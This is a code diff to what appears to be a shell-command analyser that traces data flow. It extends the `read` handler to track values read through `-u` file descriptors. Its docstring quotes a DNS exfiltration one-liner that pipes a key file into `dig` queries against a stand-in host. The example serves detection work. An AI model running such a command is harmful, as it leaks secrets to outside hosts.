@@ -49,12 +49,18 @@ def h_echo(ctx: Ctx, args: list[str], name: str) -> None:
 
 def h_read(ctx: Ctx, args: list[str], name: str) -> None:
     """read/mapfile VAR: the variables get unknown values, read from stdin (`cat key | while
-    read l; do dig $l.x.example; done` sends the key)."""
-    _, pos = parse_opts(args, *OPTIONS["read"])
-    # a listing (find, grep -l: stdin items) gives names, not what the files hold
-    piped = ctx.stdin.resources if not ctx.stdin.items else ()
-    into = ctx.stdin_redirect()
-    came_from = piped + ((ctx.text(into[1]),) if into is not None and into[0] in ("<", "<>") else ())
+    read l; do dig $l.x.example; done` sends the key), or from the descriptor ``-u N`` names
+    (`read -u 3 l 3< key`)."""
+    opts, pos = parse_opts(args, *OPTIONS["read"])
+    fd = next((v for k, v in opts if k == "-u" and v), None)
+    if fd is not None:
+        was = ctx.an.fds.get(fd)
+        came_from: tuple[str, ...] = (ctx.text(was[1]),) if was is not None and was[0] in ("<", "<>") else ()
+    else:
+        # a listing (find, grep -l: stdin items) gives names, not what the files hold
+        piped = ctx.stdin.resources if not ctx.stdin.items else ()
+        into = ctx.stdin_redirect()
+        came_from = piped + ((ctx.text(into[1]),) if into is not None and into[0] in ("<", "<>") else ())
     for p in pos:
         ctx.assign(ctx.text(p), None, came_from)
 
